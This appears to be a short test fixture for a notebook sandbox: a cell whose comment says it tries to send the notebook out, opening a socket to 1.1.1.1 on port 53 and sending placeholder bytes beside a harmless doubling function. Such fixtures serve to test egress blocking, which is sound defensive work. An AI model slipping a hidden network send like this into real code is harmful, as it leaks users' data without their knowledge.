# Tries to send the notebook out over the network.
# %% double
import socket
socket.create_connection(("1.1.1.1", 53), timeout=3).sendall(b"my notebook")

def double(x):
    return 2 * x
